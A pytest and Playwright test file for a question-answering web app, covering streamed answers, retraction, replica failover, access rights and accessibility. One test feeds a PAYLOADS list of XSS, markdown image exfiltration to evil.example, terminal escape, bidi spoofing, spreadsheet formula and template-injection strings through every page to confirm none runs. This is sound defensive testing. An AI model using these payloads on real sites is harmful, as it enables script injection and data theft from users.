"""Laws about pages in a real browser: what streams, what a keyboard reaches, and what never runs (E12)."""

from __future__ import annotations

import re
from collections.abc import Iterable
from contextlib import ExitStack
from typing import Any

import pytest
from playwright.async_api import expect
from starlette.types import Receive, Scope, Send

from millrace.event import Event
from millrace.events.query import AnswerCompleted, AnswerDelta, AnswerFailed, AnswerRetracted, QueryReceived
from tests.gateway.conftest import identity
from tests.gateway.pages.browsing import browsing, needs_browser
from tests.gateway.pages.conftest import QUOTE, Office, ends_well
from tests.gateway.pages.shelf import quoted

pytestmark = [pytest.mark.slow, pytest.mark.timeout(300), needs_browser]

PAYLOADS = (
    "<script>window.pwned = 1; alert('script')</script>",
    "<img src=https://evil.example/x.png onerror=\"alert('img')\">",
    "<svg onload=alert('svg')><a href='javascript:alert(1)'>x</a></svg>",
    "![leak](https://evil.example/leak?q=secret) [click](https://evil.example/)",
    "<iframe srcdoc=\"<script>parent.alert('frame')</script>\"></iframe>",
    "<link rel=stylesheet href=https://evil.example/x.css><style>@import url(https://evil.example/y.css)</style>",
    "\x1b]8;;https://evil.example\x1b\\click\x1b]8;;\x1b\\ \x1b[31mred\x9b2J",
    "user\u202egpj.exe \u2066hidden\u2069 \U000e0041\U000e0042",
    '=HYPERLINK("https://evil.example"), @SUM(1), +1|cmd',
    "\"><form action=https://evil.example><button autofocus onfocus=alert('focus')>",
    "{{ 7 * 7 }} ${7*7} <template><script>alert(1)</script></template>",
)


async def test_an_answer_streams_in_and_its_quote_opens_at_the_span_that_was_read(office: Office) -> None:
    with office.gateways.answering(office.reply):
        async with office.open() as gateway, browsing(gateway.app) as tab:
            await tab.go("/")
            await tab.ask("Who approves trips?")
            await expect(tab.page.locator(".answer")).to_contain_text(QUOTE)
            assert "/ask?conversation=" in tab.page.url
            await tab.page.get_by_role("link", name="Source 1").click()
            marked = tab.page.locator("mark#span")
            await expect(marked).to_have_text(QUOTE)
            await expect(marked).to_be_in_viewport()
            await expect(tab.page.get_by_text("an earlier version")).to_be_visible()
            await tab.page.go_back()
            await expect(tab.page.locator(".turn")).to_contain_text(QUOTE)
            assert (tab.outside, tab.acted, tab.refused) == ([], [], [])


async def test_what_was_streamed_is_gone_when_the_answer_is_taken_back(office: Office) -> None:
    def behaviour(question: QueryReceived) -> Iterable[Event]:
        whose: dict[str, Any] = {"tenant": question.tenant, "correlation": question.meta.correlation_id}
        if "again" in question.question:
            # The page has shown the piece: now it goes.
            yield AnswerRetracted(**whose, n=1, reason="a right was taken away")
        else:
            yield AnswerDelta(**whose, n=0, text="The secret bonus is nine percent.")

    with office.gateways.answering(behaviour):
        async with office.open() as gateway, browsing(gateway.app) as tab:
            await tab.go("/ask")
            await tab.page.get_by_role("textbox", name="question").fill("What is the bonus?")
            await tab.page.keyboard.press("Enter")
            await expect(tab.page.locator(".answer")).to_contain_text("secret bonus")
            assert await tab.page.locator(".answer").get_attribute("aria-busy") == "true"
            await tab.page.get_by_role("button", name="Stop").click()
            await expect(tab.page.get_by_text("Stopped.", exact=True)).to_be_visible()
            assert "secret bonus" not in await tab.page.locator("#turns").inner_text()
            await tab.ask("And again?")
            await expect(tab.page.get_by_text("This answer was taken back.", exact=True)).to_be_visible()
            await expect(tab.page.locator("#announce")).to_contain_text("taken back")


async def test_a_higher_attempt_takes_the_place_of_what_was_streamed(office: Office) -> None:
    def behaviour(question: QueryReceived) -> Iterable[Event]:
        whose: dict[str, Any] = {"tenant": question.tenant, "correlation": question.meta.correlation_id}
        yield AnswerDelta(**whose, n=0, text="A first try that broke off")
        yield AnswerDelta(**whose, attempt=1, n=0, text="The second")
        yield AnswerFailed(**whose, attempt=1, n=1, error_type="model_down", message="The reader is away; ask again.")

    with office.gateways.answering(behaviour):
        async with office.open() as gateway, browsing(gateway.app) as tab:
            await tab.go("/ask")
            await tab.ask("What?")
            await expect(tab.page.locator(".notice.failed")).to_contain_text("The reader is away")
            assert "first try" not in await tab.page.locator("#turns").inner_text()


async def test_an_answer_that_has_begun_waits_for_a_place_at_another_replica_and_goes_on_there(office: Office) -> None:
    asked: list[QueryReceived] = []

    def behaviour(question: QueryReceived) -> Iterable[Event]:
        asked.append(question)
        whose: dict[str, Any] = {"tenant": question.tenant, "correlation": question.meta.correlation_id}
        if len(asked) == 1:
            return [AnswerDelta(**whose, n=0, text="The first half ")]
        return [AnswerCompleted(**whose, n=1, text="The first half and the rest.", found=True)]

    async with office.open() as one, office.open() as other:
        at = [one.app]

        async def balanced(scope: Scope, receive: Receive, send: Send) -> None:
            await at[0](scope, receive, send)

        admission = other.service.admission
        with office.gateways.answering(behaviour), ExitStack() as held:
            async with browsing(balanced) as tab:  # type: ignore[arg-type]  # served as it is
                await tab.go("/ask")
                await tab.page.get_by_role("textbox", name="question").fill("What?")
                await tab.page.keyboard.press("Enter")
                await expect(tab.page.locator(".answer")).to_contain_text("The first half")
                for _ in range(admission.limits.concurrent_per_tenant):
                    held.enter_context(admission.place(identity(office.tenant)))
                at[0] = other.app
                one.service.millrace.leave_questions()
                await one.service.health.drain(0.0)
                async with tab.page.expect_response(lambda found: found.status == 429) as refused:
                    pass
                assert (await (await refused.value).header_value("retry-after")) == "1"
                held.close()
                await other.service.millrace.produce(asked[0])
                await expect(tab.page.locator('.answer[aria-busy="false"]')).to_have_text(
                    "The first half and the rest."
                )
                assert await tab.page.locator(".notice").count() == 0


async def test_switching_to_a_person_without_the_right_loses_the_document(office: Office) -> None:
    async with office.open() as gateway, browsing(gateway.app) as tab:
        await tab.go("/corpus")
        await tab.page.get_by_role("link", name="Salaries 2026").click()
        await expect(tab.page.locator(".text")).to_contain_text("nine percent")
        await tab.page.get_by_label("You are").select_option("Ben")
        await tab.page.get_by_role("button", name="Switch").click()
        await expect(tab.page.get_by_role("heading", level=1)).to_have_text("Nothing here for you")
        assert "nine percent" not in await tab.page.content()
        await tab.go("/corpus")
        await expect(tab.page.get_by_role("link", name="Travel handbook")).to_be_visible()
        await expect(tab.page.get_by_role("link", name="Salaries 2026")).to_have_count(0)


async def test_a_keyboard_alone_asks_opens_a_source_and_comes_back(office: Office) -> None:
    with office.gateways.answering(office.reply):
        async with office.open() as gateway, browsing(gateway.app) as tab:
            page = tab.page
            await tab.go("/ask")
            await expect(page.get_by_role("textbox", name="question")).to_be_focused()
            await page.keyboard.type("Who approves trips?")
            await page.keyboard.press("Shift+Enter")
            await page.keyboard.type("Above all?")
            await page.keyboard.press("Enter")
            await page.locator('#turns .answer[aria-busy="false"]').wait_for()
            await expect(page.locator(".question")).to_have_text("Who approves trips?\nAbove all?")
            await expect(page.get_by_role("textbox", name="question")).to_be_focused()
            for _ in range(7):  # past the buttons below the answer
                await page.keyboard.press("Shift+Tab")
            assert await page.evaluate("getComputedStyle(document.activeElement).outlineStyle") != "none"
            assert await page.evaluate("document.activeElement.getAttribute('aria-label')") == "Source 1"
            await page.keyboard.press("Enter")
            await expect(page.locator("mark#span")).to_have_text(QUOTE)
            await page.keyboard.press("Tab")
            assert await page.evaluate("document.activeElement !== document.body")
            await tab.go("/corpus")
            await page.keyboard.press("Tab")
            assert await page.evaluate("document.activeElement.textContent") == "Skip to the content"
            await page.keyboard.press("Enter")
            assert await page.evaluate("document.activeElement.id") == "main"


@pytest.mark.parametrize("scripts", [True, False], ids=["with the script", "without a script"])
async def test_nothing_that_others_wrote_runs_or_asks_for_anything_outside(office: Office, scripts: bool) -> None:
    evil = " ".join(PAYLOADS)
    office.shelf.put(office.tenant, evil, evil, title=evil, labels={evil: evil}, language=evil, source=evil)
    citation = quoted(evil, evil, evil, title=evil, heading=evil)

    def behaviour(question: QueryReceived) -> Iterable[Event]:
        office.note(question, f"{evil} [1]", citation)
        return ends_well(question, *PAYLOADS, " [1]", citations=(citation,))

    with office.gateways.answering(behaviour):
        async with office.open() as gateway, browsing(gateway.app, java_script_enabled=scripts) as tab:
            page = tab.page
            await tab.go("/ask")
            await page.get_by_role("textbox", name="question").fill(evil)
            await page.get_by_role("button", name="Ask", exact=True).click()
            await page.locator(".citations li").wait_for()
            shown = await page.locator("#turns").inner_text()
            assert "alert('script')" in shown
            assert "https://evil.example/leak" in shown
            assert not re.search("[\x1b\x9b\u202e\u2066\U000e0041]", shown)
            trace = await page.get_by_role("link", name="How this was answered").get_attribute("href")
            source = await page.locator(".citations a").first.get_attribute("href")
            for path in (trace, source, "/corpus", "/corpus?q=script", "/traces"):
                await tab.go(str(path))
                assert "alert('script')" in await page.locator("main").inner_text(), path
                links = await page.locator("a[href]").evaluate_all("found => found.map((each) => each.href)")
                assert all(link.startswith(tab.base) for link in links), path
            if scripts:
                assert await page.evaluate("window.pwned") is None
            assert (tab.outside, tab.acted) == ([], [])


async def test_the_watch_notices_what_a_page_without_its_defences_does(office: Office) -> None:
    async with office.open() as gateway, browsing(gateway.app) as tab:

        async def undefended(route: object) -> None:
            await route.fulfill(body="".join(PAYLOADS[:2]), content_type="text/html")  # type: ignore[attr-defined]

        await tab.page.route("**/corpus", undefended)
        await tab.go("/corpus")
        await tab.page.wait_for_load_state("networkidle")
        assert "dialog script" in tab.acted
        assert tab.outside == ["https://evil.example/x.png"]


@pytest.mark.parametrize("scheme", ["light", "dark"])
async def test_pages_have_names_contrast_and_room_on_a_narrow_screen(office: Office, scheme: str) -> None:
    with office.gateways.answering(office.reply):
        async with (
            office.open() as gateway,
            browsing(
                gateway.app, color_scheme=scheme, viewport={"width": 320, "height": 640}, reduced_motion="reduce"
            ) as tab,
        ):
            await tab.go("/ask")
            await _fits(tab.page)
            await tab.ask("Who approves trips?")
            trace = await tab.page.get_by_role("link", name="How this was answered").get_attribute("href")
            source = await tab.page.locator(".citations a").first.get_attribute("href")
            for path in (None, str(source), str(trace), "/corpus", "/traces", "/corpus/document?id=none"):
                if path is not None:
                    await tab.go(path)
                await _fits(tab.page)
                assert await tab.contrasts() == [], path
                assert await tab.nameless() == [], path


async def _fits(page: object) -> None:
    wide = await page.evaluate("document.documentElement.scrollWidth - document.documentElement.clientWidth")  # type: ignore[attr-defined]
    assert wide <= 0


async def test_the_checks_of_names_and_contrast_notice_what_is_wrong(office: Office) -> None:
    async with office.open() as gateway, browsing(gateway.app) as tab:
        await tab.go("/corpus")
        await tab.page.evaluate("document.querySelector('main button').textContent = ''")
        await tab.page.evaluate("document.querySelector('#q').labels[0].remove()")
        await tab.page.evaluate("document.documentElement.style.setProperty('--soft', '#bbbbbb')")
        assert len(await tab.nameless()) == 2
        assert await tab.contrasts() != []
